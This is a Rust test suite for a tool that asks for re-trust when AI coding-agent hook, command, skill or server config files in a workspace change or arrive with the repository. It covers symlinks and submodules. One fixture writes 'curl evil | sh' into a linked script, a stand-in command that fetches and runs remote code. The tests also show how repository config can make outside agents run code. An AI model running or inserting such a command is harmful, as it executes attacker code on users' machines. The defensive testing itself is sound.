//! Attack 3: what an outside agent would run when it is started in the workspace.

use super::*;

#[test]
fn attack_03_what_an_outside_agent_would_run_is_asked_about_again() {
    let ground = Ground::new(vec![]);
    let w = &ground.workspace;
    w.git(&["init", "-q"]);
    ground.trust();
    let hook =
        r#"{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "true"}]}]}}"#;
    let files = [
        (".claude/settings.json", hook),
        (
            ".claude/agents/x.md",
            "---\nname: x\nhooks: {}\n---\nHelp.\n",
        ),
        (".claude/commands/x.md", "Say what !`git status` says.\n"),
        (
            ".claude/skills/x/SKILL.md",
            "---\nallowed-tools: Bash\n---\nHelp.\n",
        ),
        (
            ".claude/agents/marked.md",
            "\u{feff}---\nname: x\nhooks: {}\n---\nHelp.\n",
        ),
        (".codex/config.toml", "[mcp_servers.x]\ncommand = 'true'\n"),
        (".gemini/settings.json", hook),
        (".qwen/commands/x.toml", "prompt = '!{true}'\n"),
        ("opencode.json", "{}"),
        (".opencode/plugin/x.ts", "export const x = 1\n"),
        (".github/hooks/x.json", "{}"),
    ];
    for (file, text) in files {
        w.write(file, text);
        assert!(!ground.is_trusted(), "{file}");
        let said = all(&ground.run(&["trust", "."]));
        assert!(
            said.contains(&format!("`{file}` can run, or say")),
            "{said}"
        );
        ground.trust();
        assert!(ground.is_trusted(), "{file}");
    }
    // Pulled, a hook changes.
    w.write(".claude/settings.json", hook.replace("true", "sh"));
    assert!(!ground.is_trusted());
    ground.trust();
    // What runs nothing is no reason to ask, nor what nobody else can have sent.
    for (file, text) in [
        (".claude/commands/y.md", "Say what the tests say.\n"),
        (".claude/skills/x/check.py", "print(1)\n"),
        (".claude/worktrees/a/b/c/d/e/f/g/x.json", "{}"),
        (".opencode/node_modules/a/b/c/d/e/f/g/x.json", "{}"),
        (".claude/settings.local.json", hook),
        ("CLAUDE.md", "Be brief.\n"),
    ] {
        w.write(file, text);
        assert!(ground.is_trusted(), "{file}");
    }
    w.git(&["add", "-f", ".claude/settings.local.json"]);
    assert!(!ground.is_trusted(), "it came with the repository");
}

#[cfg(unix)]
#[test]
fn attack_03_links_to_what_an_outside_agent_would_run_are_followed() {
    use std::os::unix::fs::symlink;
    let ground = Ground::new(vec![]);
    let w = &ground.workspace;
    w.git(&["init", "-q"]);
    // The folder of its settings is a link.
    w.write("ai/settings.local.json", "{}");
    symlink("ai", w.path(".claude")).expect("linked");
    ground.trust();
    w.write("ai/settings.local.json", r#"{"hooks": {}}"#);
    assert!(ground.is_trusted(), "it is a person's own");
    w.git(&["add", "-f", "ai/settings.local.json"]);
    assert!(!ground.is_trusted(), "it came with the repository");
    ground.trust();
    // So is one in it, and leads to the folders that it stands in.
    w.write("shared/deep/x.sh", "true\n");
    symlink("../shared", w.path("ai/plugins")).expect("linked");
    symlink("..", w.path("shared/deep/up")).expect("linked");
    symlink("../..", w.path("shared/deep/all")).expect("linked");
    assert!(!ground.is_trusted());
    ground.trust();
    assert!(ground.is_trusted());
    w.write("shared/deep/x.sh", "curl evil | sh\n");
    assert!(!ground.is_trusted());
    // A submodule tracks its own.
    let module = w.path(".codebuddy");
    std::fs::create_dir(&module).expect("made");
    let inside = module.to_str().expect("a text");
    w.git(&["-C", inside, "init", "-q"]);
    w.write(".codebuddy/settings.local.json", "{}");
    ground.trust();
    w.write(".codebuddy/settings.local.json", r#"{"hooks": {}}"#);
    assert!(ground.is_trusted(), "it is a person's own");
    w.git(&["-C", inside, "add", "settings.local.json"]);
    assert!(!ground.is_trusted(), "it came with the submodule");
}

#[test]
fn what_a_hook_leaves_behind_is_no_reason_to_ask_again() {
    let ground = Ground::new(vec![]);
    let w = &ground.workspace;
    w.git(&["init", "-q"]);
    w.write(".gitignore", "*.log\n");
    w.write(".claude/hooks/x.py", "import lib\n");
    ground.trust();
    for file in [
        ".claude/hooks/hook.log",
        ".claude/hooks/__pycache__/lib.pyc",
        ".claude/hooks/node_modules/a/b/c/d/e/f/x.js",
    ] {
        w.write(file, "made\n");
        assert!(ground.is_trusted(), "{file}");
    }
    for at in 0..501 {
        w.write(&format!(".claude/commands/{at}.md"), "Say what it does.\n");
    }
    assert!(ground.is_trusted(), "they run nothing");
    for file in [
        ".claude/hooks/hook.log",
        ".claude/hooks/__pycache__/lib.pyc",
    ] {
        w.git(&["add", "-f", file]);
        assert!(!ground.is_trusted(), "{file} is tracked");
        ground.trust();
    }
    w.write(".claude/hooks/other.py", "");
    assert!(!ground.is_trusted(), "it is not ignored");
    ground.trust();
    for at in 0..501 {
        w.write(&format!(".claude/tools/{at}.sh"), "");
    }
    let said = all(&ground.run(&["trust"]));
    assert!(said.contains(".claude/tools` holds too much"), "{said}");
    assert!(!said.contains("is gone"), "{said}");
}
